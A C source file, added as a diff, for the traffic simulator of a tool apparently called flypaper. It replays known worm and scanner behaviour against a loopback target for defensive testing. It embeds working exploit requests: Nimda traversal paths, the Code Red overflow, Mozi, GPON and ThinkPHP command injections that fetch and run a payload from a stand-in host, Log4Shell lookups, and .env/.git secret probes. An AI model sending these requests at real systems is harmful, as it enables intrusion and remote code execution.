@@ -1,0 +1,687 @@
+/* sim.c - "flypaper sim": replays how known peers behave, over real TCP,
+ * from many loopback source addresses. Each simulated source runs its
+ * scenario's script on a thread of its own with blocking sockets and
+ * timeouts; every run is bounded in connections and in time. The request
+ * bytes follow the public analyses in the project's field notes. */
+#include "sim.h"
+
+#include <arpa/inet.h>
+#include <errno.h>
+#include <getopt.h>
+#include <netinet/in.h>
+#include <poll.h>
+#include <pthread.h>
+#include <signal.h>
+#include <stdarg.h>
+#include <stdatomic.h>
+#include <stdbool.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/socket.h>
+#include <time.h>
+#include <unistd.h>
+
+#include "addr.h"
+#include "config.h"
+
+#define SIM_MAX_SOURCES 4096
+#define SIM_MAX_CONCURRENCY 512
+#define SIM_REPLY_MAX (64 * 1024)
+
+/* The sixteen Nimda requests, in order (field notes). */
+static const char *const sim_nimda_paths[16] = {
+	"/scripts/root.exe?/c+dir",
+	"/MSADC/root.exe?/c+dir",
+	"/c/winnt/system32/cmd.exe?/c+dir",
+	"/d/winnt/system32/cmd.exe?/c+dir",
+	"/scripts/..%255c../winnt/system32/cmd.exe?/c+dir",
+	"/_vti_bin/..%255c../..%255c../..%255c../winnt/system32/cmd.exe?/c+dir",
+	"/_mem_bin/..%255c../..%255c../..%255c../winnt/system32/cmd.exe?/c+dir",
+	"/msadc/..%255c../..%255c../..%255c/..%c1%1c../..%c1%1c../..%c1%1c../winnt/system32/cmd.exe?/c+dir",
+	"/scripts/..%c1%1c../winnt/system32/cmd.exe?/c+dir",
+	"/scripts/..%c0%2f../winnt/system32/cmd.exe?/c+dir",
+	"/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir",
+	"/scripts/..%c1%9c../winnt/system32/cmd.exe?/c+dir",
+	"/scripts/..%%35%63../winnt/system32/cmd.exe?/c+dir",
+	"/scripts/..%%35c../winnt/system32/cmd.exe?/c+dir",
+	"/scripts/..%25%35%63../winnt/system32/cmd.exe?/c+dir",
+	"/scripts/..%252f../winnt/system32/cmd.exe?/c+dir",
+};
+
+static const char sim_codered_tail[] =
+	"%u9090%u6858%ucbd3%u7801%u9090%u6858%ucbd3%u7801%u9090%u6858%ucbd3"
+	"%u7801%u9090%u9090%u8190%u00c3%u0003%u8b00%u531b%u53ff%u0078%u0000%u00=a";
+
+struct sim_options {
+	const char *scenario;
+	struct addr target;
+	int sources;
+	int count;                   /* runs (bursts) per source */
+	int concurrency;
+	double rate;                 /* connections per second, 0 unlimited */
+	uint32_t bind_first, bind_last;      /* IPv4 source range, host order */
+	uint64_t reply_ms;           /* how long a peer waits for a reply */
+	uint64_t hold_ms;            /* silent, ident-shy: how long to wait */
+	uint64_t banner_ms;          /* nmap-like: wait for a banner */
+	uint64_t duration_ms;        /* the whole run's bound */
+	size_t payload_size;         /* flood */
+	int ident_port;              /* ident-shy listens here on its source */
+	bool own_target;
+};
+
+struct sim_stats {
+	atomic_long connections, failed, replies, second_stages, dropped_on_data,
+	    dropped_on_ident;
+	atomic_llong bytes_out, bytes_in;
+};
+
+struct sim_run {
+	struct sim_options o;
+	struct sim_stats st;
+	atomic_int next_source;
+	pthread_mutex_t rate_lock;
+	double next_slot;            /* rate limiter */
+	double deadline;
+};
+
+static double sim_now(void)
+{
+	struct timespec ts;
+
+	clock_gettime(CLOCK_MONOTONIC, &ts);
+	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
+}
+
+static bool sim_expired(struct sim_run *run)
+{
+	return sim_now() >= run->deadline;
+}
+
+/* Waits for the rate limiter's next slot. */
+static void sim_pace(struct sim_run *run)
+{
+	double wait;
+
+	if (run->o.rate <= 0)
+		return;
+	pthread_mutex_lock(&run->rate_lock);
+	double now = sim_now();
+	if (run->next_slot < now)
+		run->next_slot = now;
+	wait = run->next_slot - now;
+	run->next_slot += 1.0 / run->o.rate;
+	pthread_mutex_unlock(&run->rate_lock);
+	if (wait > 0)
+		usleep((useconds_t)(wait * 1e6));
+}
+
+/* Connects from source address src (network order; 0: any). */
+static int sim_connect(struct sim_run *run, uint32_t src)
+{
+	int fd = socket(run->o.target.u.sa.sa_family, SOCK_STREAM | SOCK_CLOEXEC, 0);
+	int one = 1;
+
+	if (fd < 0)
+		return -1;
+	sim_pace(run);
+	if (src && run->o.target.u.sa.sa_family == AF_INET) {
+		struct sockaddr_in sa = {.sin_family = AF_INET, .sin_addr.s_addr = src};
+		setsockopt(fd, IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, &one, sizeof(one));
+		if (bind(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0) {
+			close(fd);
+			return -1;
+		}
+	}
+	if (connect(fd, &run->o.target.u.sa, addr_len(&run->o.target)) < 0) {
+		close(fd);
+		atomic_fetch_add(&run->st.failed, 1);
+		return -1;
+	}
+	atomic_fetch_add(&run->st.connections, 1);
+	return fd;
+}
+
+static void sim_send(struct sim_run *run, int fd, const void *data, size_t len)
+{
+	const char *p = data;
+
+	while (len > 0) {
+		ssize_t n = send(fd, p, len, MSG_NOSIGNAL);
+		if (n <= 0)
+			return;
+		atomic_fetch_add(&run->st.bytes_out, n);
+		p += n;
+		len -= (size_t)n;
+	}
+}
+
+/* Reads until the server closes or wait_ms passes without a byte (or the
+ * first byte arrives, with first_only). Returns the bytes read into buf
+ * (NUL-terminated), -1 when nothing came. */
+static ssize_t sim_read(struct sim_run *run, int fd, char *buf, size_t cap,
+    uint64_t wait_ms, bool first_only)
+{
+	size_t got = 0;
+
+	for (;;) {
+		struct pollfd pfd = {.fd = fd, .events = POLLIN};
+		double left = run->deadline - sim_now();
+		int ms = (int)wait_ms;
+		if (left <= 0)
+			break;
+		if (left * 1000 < ms)
+			ms = (int)(left * 1000);
+		if (poll(&pfd, 1, ms) <= 0)
+			break;
+		ssize_t n = recv(fd, buf + got, cap - 1 - got, 0);
+		if (n <= 0)
+			break;
+		got += (size_t)n;
+		atomic_fetch_add(&run->st.bytes_in, n);
+		if (first_only || got >= cap - 1)
+			break;
+	}
+	buf[got] = '\0';
+	if (got)
+		atomic_fetch_add(&run->st.replies, 1);
+	return got ? (ssize_t)got : -1;
+}
+
+/* One request, one reply (the worms of 2001 wait for it). */
+static ssize_t sim_exchange(struct sim_run *run, uint32_t src, const char *req,
+    size_t len, char *reply, size_t cap)
+{
+	int fd = sim_connect(run, src);
+	ssize_t n;
+
+	if (fd < 0)
+		return -1;
+	sim_send(run, fd, req, len);
+	n = sim_read(run, fd, reply, cap, run->o.reply_ms, false);
+	close(fd);
+	return n;
+}
+
+static bool sim_is_200(const char *reply, ssize_t n)
+{
+	return n > 12 && strncmp(reply, "HTTP/1.", 7) == 0 && strncmp(reply + 9, "200", 3) == 0;
+}
+
+static void sim_format(char *buf, size_t cap, const char *fmt, ...)
+    __attribute__((format(printf, 3, 4)));
+
+static void sim_format(char *buf, size_t cap, const char *fmt, ...)
+{
+	va_list ap;
+
+	va_start(ap, fmt);
+	vsnprintf(buf, cap, fmt, ap);
+	va_end(ap);
+}
+
+/* ---- scenarios --------------------------------------------------------- */
+
+static void sim_codered(struct sim_run *run, uint32_t src, char fill)
+{
+	char *req = malloc(8192), *reply = malloc(SIM_REPLY_MAX);
+	size_t n = 0;
+
+	n += (size_t)sprintf(req, "GET /default.ida?");
+	memset(req + n, fill, 224);
+	n += 224;
+	memcpy(req + n, sim_codered_tail, sizeof(sim_codered_tail) - 1);
+	n += sizeof(sim_codered_tail) - 1;
+	if (fill == 'N') {
+		n += (size_t)sprintf(req + n, " HTTP/1.0\r\nContent-type: text/xml\r\n"
+		    "HOST:www.worm.com\r\n Accept: */*\r\nContent-length: 3569 \r\n\r\n");
+		/* the binary body its Content-length announces: about 4 KB in all */
+		for (size_t end = n + 3569; n < end; n++)
+			req[n] = (char)((n * 31 + 7) & 0xff);
+	} else {
+		n += (size_t)sprintf(req + n, " HTTP/1.0\r\nContent-type: text/xml\r\n"
+		    "Content-length: 3379 \r\n\r\n");
+		for (; n < 3818; n++)      /* 3,818 bytes in all */
+			req[n] = (char)((n * 13 + 5) & 0xff);
+	}
+	sim_exchange(run, src, req, n, reply, SIM_REPLY_MAX);
+	free(req);
+	free(reply);
+}
+
+static void sim_nimda(struct sim_run *run, uint32_t src, int paths)
+{
+	char req[512], *reply = malloc(SIM_REPLY_MAX);
+
+	for (int i = 0; i < paths && !sim_expired(run); i++) {
+		sim_format(req, sizeof(req), "GET %s HTTP/1.0\r\n\r\n", sim_nimda_paths[i]);
+		ssize_t n = sim_exchange(run, src, req, strlen(req), reply, SIM_REPLY_MAX);
+		if (!sim_is_200(reply, n))
+			continue;
+		/* A server that looks vulnerable: the second stage. */
+		atomic_fetch_add(&run->st.second_stages, 1);
+		sim_format(req, sizeof(req), "GET /scripts/root.exe?/c+tftp -i 192.0.2.66 "
+		    "GET Admin.dll Admin.dll HTTP/1.0\r\n\r\n");
+		sim_exchange(run, src, req, strlen(req), reply, SIM_REPLY_MAX);
+		sim_format(req, sizeof(req), "GET /scripts/Admin.dll HTTP/1.0\r\n\r\n");
+		sim_exchange(run, src, req, strlen(req), reply, SIM_REPLY_MAX);
+		break;
+	}
+	free(reply);
+}
+
+/* Connects, sends nothing, waits up to wait_ms and leaves at the first
+ * byte flypaper sends. */
+static void sim_quiet(struct sim_run *run, uint32_t src, uint64_t wait_ms)
+{
+	char buf[256];
+	int fd = sim_connect(run, src);
+
+	if (fd < 0)
+		return;
+	if (sim_read(run, fd, buf, sizeof(buf), wait_ms, true) > 0)
+		atomic_fetch_add(&run->st.dropped_on_data, 1);
+	close(fd);
+}
+
+static void sim_filtered_nimda(struct sim_run *run, uint32_t src, int paths)
+{
+	/* An in-path filter swallowed every GET: the handshakes of the burst
+	 * arrive, the requests never do. */
+	for (int i = 0; i < paths && !sim_expired(run); i++)
+		sim_quiet(run, src, run->o.reply_ms);
+}
+
+static void sim_ident_shy(struct sim_run *run, uint32_t src)
+{
+	struct sockaddr_in sa = {.sin_family = AF_INET, .sin_addr.s_addr = src,
+	    .sin_port = htons((uint16_t)run->o.ident_port)};
+	int one = 1, lfd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+	char buf[256];
+
+	setsockopt(lfd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
+	if (lfd < 0 || bind(lfd, (struct sockaddr *)&sa, sizeof(sa)) < 0 ||
+	    listen(lfd, 8) < 0) {
+		if (lfd >= 0)
+			close(lfd);
+		atomic_fetch_add(&run->st.failed, 1);
+		return;
+	}
+	int fd = sim_connect(run, src);
+	if (fd >= 0) {
+		struct pollfd p[2] = {{.fd = fd, .events = POLLIN}, {.fd = lfd, .events = POLLIN}};
+		double end = sim_now() + (double)run->o.hold_ms / 1000.0;
+		while (sim_now() < end && !sim_expired(run)) {
+			if (poll(p, 2, 100) <= 0)
+				continue;
+			if (p[1].revents & POLLIN) {
+				/* probed: leave at once, as the 2001 peer did */
+				atomic_fetch_add(&run->st.dropped_on_ident, 1);
+				break;
+			}
+			if (p[0].revents) {
+				if (recv(fd, buf, sizeof(buf), 0) > 0)
+					atomic_fetch_add(&run->st.dropped_on_data, 1);
+				break;
+			}
+		}
+		close(fd);
+		int c = accept(lfd, NULL, NULL);
+		if (c >= 0)
+			close(c);
+	}
+	close(lfd);
+}
+
+static void sim_nmap_like(struct sim_run *run, uint32_t src)
+{
+	char *reply = malloc(SIM_REPLY_MAX);
+	int fd = sim_connect(run, src);
+
+	if (fd >= 0) {
+		/* wait for a banner first, as nmap -sV's NULL probe does */
+		if (sim_read(run, fd, reply, SIM_REPLY_MAX, run->o.banner_ms, true) < 0) {
+			static const char get[] = "GET / HTTP/1.0\r\n\r\n";
+			sim_send(run, fd, get, sizeof(get) - 1);
+			sim_read(run, fd, reply, SIM_REPLY_MAX, run->o.reply_ms, false);
+		}
+		close(fd);
+	}
+	free(reply);
+}
+
+static void sim_request(struct sim_run *run, uint32_t src, const char *req)
+{
+	char *reply = malloc(SIM_REPLY_MAX);
+
+	sim_exchange(run, src, req, strlen(req), reply, SIM_REPLY_MAX);
+	free(reply);
+}
+
+static void sim_flood(struct sim_run *run, uint32_t src)
+{
+	size_t n = run->o.payload_size;
+	char *data = malloc(n ? n : 1), buf[4096];
+	int fd;
+
+	for (size_t i = 0; i < n; i++)
+		data[i] = (char)('A' + i % 26);
+	fd = sim_connect(run, src);
+	if (fd >= 0) {
+		sim_send(run, fd, data, n);
+		shutdown(fd, SHUT_WR);
+		while (recv(fd, buf, sizeof(buf), 0) > 0)
+			;
+		close(fd);
+	}
+	free(data);
+}
+
+struct sim_scenario {
+	const char *name;
+	const char *what;
+};
+
+static const struct sim_scenario sim_scenarios[] = {
+	{"codered1", "Code Red I: GET /default.ida?NNNN... with its body, at once"},
+	{"codered2", "Code Red II: GET /default.ida?XXXX..., 3,818 bytes, at once"},
+	{"nimda", "16 connections, one request each, waiting for each reply; a 200 gets the tftp/Admin.dll stage"},
+	{"nimda14", "the Nimda burst with 14 connections"},
+	{"silent", "connects, sends nothing, waits (--hold), leaves at the first server byte"},
+	{"filtered-nimda", "the Nimda burst with every GET lost in the path: 16 handshakes, no data"},
+	{"ident-shy", "like silent, but leaves the moment its ident port is probed"},
+	{"nmap-like", "waits for a banner (--banner-wait, 6s), then GET / HTTP/1.0"},
+	{"masscan-banner", "masscan --banners: GET / with its User-Agent at once"},
+	{"zgrab", "ZGrab2: GET / with its User-Agent at once"},
+	{"spider", "a polite crawler: robots.txt, then two pages"},
+	{"mozi-netgear", "Mozi: Netgear setup.cgi command injection, no headers"},
+	{"gpon", "GPON diag_Form command injection (User-Agent: Hello, World)"},
+	{"thinkphp", "ThinkPHP invokefunction remote code execution"},
+	{"phpunit", "PHPUnit eval-stdin.php under a few prefixes"},
+	{"log4shell", "Log4Shell ${jndi:...} in the URL and headers"},
+	{"env-probe", "secrets probes: /.env, /.git/config, /.git/HEAD"},
+	{"flood", "load: --payload-size bytes, shut down, wait for close"},
+};
+
+static void sim_source_script(struct sim_run *run, uint32_t src)
+{
+	const char *s = run->o.scenario;
+	char req[2048], host[ADDR_TEXT_LEN];
+
+	addr_format(&run->o.target, host, sizeof(host));
+	if (!strcmp(s, "codered1"))
+		sim_codered(run, src, 'N');
+	else if (!strcmp(s, "codered2"))
+		sim_codered(run, src, 'X');
+	else if (!strcmp(s, "nimda"))
+		sim_nimda(run, src, 16);
+	else if (!strcmp(s, "nimda14"))
+		sim_nimda(run, src, 14);
+	else if (!strcmp(s, "silent"))
+		sim_quiet(run, src, run->o.hold_ms);
+	else if (!strcmp(s, "filtered-nimda"))
+		sim_filtered_nimda(run, src, 16);
+	else if (!strcmp(s, "ident-shy"))
+		sim_ident_shy(run, src);
+	else if (!strcmp(s, "nmap-like"))
+		sim_nmap_like(run, src);
+	else if (!strcmp(s, "masscan-banner"))
+		sim_request(run, src, "GET / HTTP/1.0\r\nUser-Agent: masscan/1.3 "
+		    "(https://github.com/robertdavidgraham/masscan)\r\nAccept: */*\r\n\r\n");
+	else if (!strcmp(s, "zgrab")) {
+		sim_format(req, sizeof(req), "GET / HTTP/1.1\r\nHost: %s\r\nUser-Agent: "
+		    "Mozilla/5.0 zgrab/0.x\r\nAccept: */*\r\nAccept-Encoding: gzip\r\n\r\n", host);
+		sim_request(run, src, req);
+	} else if (!strcmp(s, "spider")) {
+		static const char *const pages[] = {"/robots.txt", "/", "/index.html"};
+		for (int i = 0; i < 3; i++) {
+			sim_format(req, sizeof(req), "GET %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: "
+			    "Mozilla/5.0 (compatible; ExampleBot/2.1; +http://www.example.com/bot.html)"
+			    "\r\nAccept: text/html\r\nConnection: close\r\n\r\n", pages[i], host);
+			sim_request(run, src, req);
+		}
+	} else if (!strcmp(s, "mozi-netgear"))
+		sim_request(run, src, "GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;"
+		    "wget+http://192.0.2.10:8088/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/"
+		    "&currentsetting.htm=1 HTTP/1.0\r\n\r\n");
+	else if (!strcmp(s, "gpon")) {
+		static const char body[] = "XWebPageName=diag&diag_action=ping&wan_conlist=0"
+		    "&dest_host=``;wget+http://192.0.2.10:8088/Mozi.m+-O+->/tmp/gpon80;sh+/tmp/gpon80&ipv=0";
+		sim_format(req, sizeof(req), "POST /GponForm/diag_Form?images/ HTTP/1.1\r\n"
+		    "Host: %s\r\nUser-Agent: Hello, World\r\nConnection: keep-alive\r\n"
+		    "Accept: */*\r\nContent-Length: %zu\r\n\r\n%s", host, sizeof(body) - 1, body);
+		sim_request(run, src, req);
+	} else if (!strcmp(s, "thinkphp"))
+		sim_request(run, src, "GET /index.php?s=/index/\\think\\app/invokefunction&function="
+		    "call_user_func_array&vars[0]=shell_exec&vars[1][]=wget%20http://192.0.2.10/t.sh"
+		    "%20-O%20-%7Csh HTTP/1.1\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n\r\n");
+	else if (!strcmp(s, "phpunit")) {
+		static const char *const prefixes[] = {"", "/laravel", "/lib/phpunit"};
+		for (int i = 0; i < 3; i++) {
+			sim_format(req, sizeof(req), "POST %s/vendor/phpunit/phpunit/src/Util/PHP/"
+			    "eval-stdin.php HTTP/1.1\r\nHost: %s\r\nContent-Type: text/plain\r\n"
+			    "Content-Length: 19\r\n\r\n<?php echo(md5(1));", prefixes[i], host);
+			sim_request(run, src, req);
+		}
+	} else if (!strcmp(s, "log4shell")) {
+		sim_format(req, sizeof(req), "GET /?x=${jndi:ldap://192.0.2.10:1389/a} HTTP/1.1\r\n"
+		    "Host: %s\r\nUser-Agent: ${jndi:ldap://192.0.2.10:1389/ua}\r\n"
+		    "X-Api-Version: ${jndi:ldap://192.0.2.10:1389/h}\r\n\r\n", host);
+		sim_request(run, src, req);
+	} else if (!strcmp(s, "env-probe")) {
+		static const char *const paths[] = {"/.env", "/.git/config", "/.git/HEAD"};
+		for (int i = 0; i < 3; i++) {
+			sim_format(req, sizeof(req), "GET %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: "
+			    "Mozilla/5.0 (X11; Linux x86_64)\r\nAccept: */*\r\n\r\n", paths[i], host);
+			sim_request(run, src, req);
+		}
+	} else if (!strcmp(s, "flood"))
+		sim_flood(run, src);
+}
+
+static uint32_t sim_source_addr(const struct sim_options *o, int i)
+{
+	uint32_t span = o->bind_last - o->bind_first + 1;
+
+	if (!o->bind_first)
+		return 0;
+	return htonl(o->bind_first + (uint32_t)i % span);
+}
+
+static void *sim_thread(void *arg)
+{
+	struct sim_run *run = arg;
+
+	for (;;) {
+		int job = atomic_fetch_add(&run->next_source, 1);
+		if (job >= run->o.sources * run->o.count || sim_expired(run))
+			return NULL;
+		/* Source-major: a source's runs go one after another, like a
+		 * worm's bursts. */
+		sim_source_script(run, sim_source_addr(&run->o, job % run->o.sources));
+	}
+}
+
+static void sim_usage(FILE *out)
+{
+	fprintf(out, "usage: flypaper sim SCENARIO --target HOST:PORT [--sources N] [--count N]\n"
+	    "           [--concurrency C] [--rate R] [--bind-range 127.0.0.2-127.0.0.250]\n"
+	    "           [--reply-timeout DUR] [--hold DUR] [--banner-wait DUR]\n"
+	    "           [--duration DUR] [--payload-size N] [--ident-port P]\n"
+	    "           [--i-own-this-target]\n\nscenarios:\n");
+	for (size_t i = 0; i < sizeof(sim_scenarios) / sizeof(sim_scenarios[0]); i++)
+		fprintf(out, "  %-15s %s\n", sim_scenarios[i].name, sim_scenarios[i].what);
+}
+
+static int sim_fail(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
+
+static int sim_fail(const char *fmt, ...)
+{
+	va_list ap;
+
+	fprintf(stderr, "flypaper sim: ");
+	va_start(ap, fmt);
+	vfprintf(stderr, fmt, ap);
+	va_end(ap);
+	fputc('\n', stderr);
+	return 2;
+}
+
+static bool sim_is_loopback(const struct addr *a)
+{
+	if (a->u.sa.sa_family == AF_INET)
+		return (ntohl(a->u.v4.sin_addr.s_addr) >> 24) == 127;
+	return IN6_IS_ADDR_LOOPBACK(&a->u.v6.sin6_addr);
+}
+
+static int sim_parse_range(const char *text, uint32_t *first, uint32_t *last)
+{
+	char a[INET_ADDRSTRLEN], b[INET_ADDRSTRLEN];
+	struct in_addr x, y;
+	const char *dash = strchr(text, '-');
+
+	if (!dash || (size_t)(dash - text) >= sizeof(a) || strlen(dash + 1) >= sizeof(b))
+		return -1;
+	memcpy(a, text, (size_t)(dash - text));
+	a[dash - text] = '\0';
+	strcpy(b, dash + 1);
+	if (inet_pton(AF_INET, a, &x) != 1 || inet_pton(AF_INET, b, &y) != 1)
+		return -1;
+	*first = ntohl(x.s_addr);
+	*last = ntohl(y.s_addr);
+	return *first <= *last ? 0 : -1;
+}
+
+int sim_main(int argc, char **argv)
+{
+	static const struct option longopts[] = {
+		{"target", required_argument, NULL, 't'},
+		{"sources", required_argument, NULL, 's'},
+		{"count", required_argument, NULL, 'n'},
+		{"concurrency", required_argument, NULL, 'c'},
+		{"rate", required_argument, NULL, 'r'},
+		{"bind-range", required_argument, NULL, 'b'},
+		{"reply-timeout", required_argument, NULL, 'R'},
+		{"hold", required_argument, NULL, 'H'},
+		{"banner-wait", required_argument, NULL, 'B'},
+		{"duration", required_argument, NULL, 'D'},
+		{"payload-size", required_argument, NULL, 'p'},
+		{"ident-port", required_argument, NULL, 'i'},
+		{"i-own-this-target", no_argument, NULL, 'O'},
+		{"help", no_argument, NULL, 'h'},
+		{NULL, 0, NULL, 0},
+	};
+	static struct sim_run run;
+	const char *range = NULL;
+	bool have_target = false;
+	int c;
+
+	run.o = (struct sim_options){.sources = 1, .count = 1, .concurrency = 0,
+	    .reply_ms = 5000, .hold_ms = 5000, .banner_ms = 6000,
+	    .duration_ms = 120000, .payload_size = 3800, .ident_port = 113};
+	/* The scenario comes first: "flypaper sim nimda --target ...". */
+	if (argc >= 2 && argv[1][0] != '-') {
+		run.o.scenario = argv[1];
+		argv[1] = argv[0];
+		argv++;
+		argc--;
+	}
+	opterr = 0;
+	optind = 1;
+	while ((c = getopt_long(argc, argv, "+h", longopts, NULL)) != -1) {
+		char *end = NULL;
+		size_t size;
+		switch (c) {
+		case 't':
+			if (addr_parse(optarg, &run.o.target) < 0)
+				return sim_fail("target: '%s' is not ADDR:PORT", optarg);
+			have_target = true;
+			break;
+		case 's': run.o.sources = (int)strtol(optarg, &end, 10); break;
+		case 'n': run.o.count = (int)strtol(optarg, &end, 10); break;
+		case 'c': run.o.concurrency = (int)strtol(optarg, &end, 10); break;
+		case 'r': run.o.rate = strtod(optarg, &end); break;
+		case 'i': run.o.ident_port = (int)strtol(optarg, &end, 10); break;
+		case 'b': range = optarg; break;
+		case 'O': run.o.own_target = true; break;
+		case 'p':
+			if (config_parse_size(optarg, &size) < 0 || size > 64 * 1024 * 1024)
+				return sim_fail("payload-size: '%s' is not a size up to 64M", optarg);
+			run.o.payload_size = size;
+			break;
+		case 'R': case 'H': case 'B': case 'D': {
+			uint64_t ms;
+			if (config_parse_duration(optarg, &ms) < 0 || ms > 24ULL * 3600 * 1000)
+				return sim_fail("'%s' is not a duration up to 24h", optarg);
+			*(c == 'R' ? &run.o.reply_ms : c == 'H' ? &run.o.hold_ms
+			  : c == 'B' ? &run.o.banner_ms : &run.o.duration_ms) = ms;
+			break;
+		}
+		case 'h':
+			sim_usage(stdout);
+			return 0;
+		default:
+			sim_usage(stderr);
+			return sim_fail("unknown option or missing value: '%s'", argv[optind - 1]);
+		}
+		if (end && *end)
+			return sim_fail("'%s' is not a number", optarg);
+	}
+	if (optind < argc)
+		return sim_fail("unexpected argument '%s'", argv[optind]);
+	if (!run.o.scenario)
+		return sim_fail("name one scenario (flypaper sim --help lists them)");
+	bool known = false;
+	for (size_t i = 0; i < sizeof(sim_scenarios) / sizeof(sim_scenarios[0]); i++)
+		known |= strcmp(sim_scenarios[i].name, run.o.scenario) == 0;
+	if (!known)
+		return sim_fail("unknown scenario '%s' (flypaper sim --help lists them)",
+		    run.o.scenario);
+	if (!have_target)
+		return sim_fail("--target HOST:PORT is required");
+	if (!sim_is_loopback(&run.o.target) && !run.o.own_target)
+		return sim_fail("refusing a target outside loopback without --i-own-this-target");
+	if (run.o.sources < 1 || run.o.sources > SIM_MAX_SOURCES || run.o.count < 1 ||
+	    run.o.count > 1000000 || run.o.concurrency < 0 ||
+	    run.o.concurrency > SIM_MAX_CONCURRENCY || run.o.rate < 0 ||
+	    run.o.ident_port < 1 || run.o.ident_port > 65535)
+		return sim_fail("sources 1..%d, count 1..1000000, concurrency 0..%d, rate >= 0",
+		    SIM_MAX_SOURCES, SIM_MAX_CONCURRENCY);
+	if (range) {
+		if (sim_parse_range(range, &run.o.bind_first, &run.o.bind_last) < 0)
+			return sim_fail("bind-range: '%s' is not A.B.C.D-E.F.G.H", range);
+		if ((run.o.bind_first >> 24) != 127 && !run.o.own_target)
+			return sim_fail("bind-range outside 127.0.0.0/8 needs --i-own-this-target");
+	} else if (run.o.sources > 1 || !strcmp(run.o.scenario, "ident-shy")) {
+		run.o.bind_first = 0x7f000002;   /* 127.0.0.2-127.0.0.250 */
+		run.o.bind_last = 0x7f0000fa;
+	}
+	if (run.o.target.u.sa.sa_family != AF_INET && run.o.bind_first)
+		return sim_fail("source ranges are IPv4; use an IPv4 target");
+	if (!run.o.concurrency)
+		run.o.concurrency = run.o.sources < 16 ? run.o.sources : 16;
+	if (!strcmp(run.o.scenario, "flood") && run.o.concurrency < 2)
+		run.o.concurrency = 64;
+	pthread_mutex_init(&run.rate_lock, NULL);
+	signal(SIGPIPE, SIG_IGN);
+
+	double t0 = sim_now();
+	run.deadline = t0 + (double)run.o.duration_ms / 1000.0;
+	int nthreads = run.o.concurrency;
+	pthread_t *threads = calloc((size_t)nthreads, sizeof(*threads));
+	for (int i = 0; i < nthreads; i++)
+		pthread_create(&threads[i], NULL, sim_thread, &run);
+	for (int i = 0; i < nthreads; i++)
+		pthread_join(threads[i], NULL);
+	free(threads);
+	double secs = sim_now() - t0;
+	printf("scenario=%s sources=%d connections=%ld failed=%ld bytes_out=%lld "
+	    "bytes_in=%lld replies=%ld second_stages=%ld dropped_on_data=%ld "
+	    "dropped_on_ident=%ld seconds=%.2f%s\n", run.o.scenario, run.o.sources,
+	    atomic_load(&run.st.connections), atomic_load(&run.st.failed),
+	    atomic_load(&run.st.bytes_out), atomic_load(&run.st.bytes_in),
+	    atomic_load(&run.st.replies), atomic_load(&run.st.second_stages),
+	    atomic_load(&run.st.dropped_on_data), atomic_load(&run.st.dropped_on_ident),
+	    secs, sim_expired(&run) ? " (stopped at --duration)" : "");
+	return atomic_load(&run.st.failed) ? 1 : 0;
+}
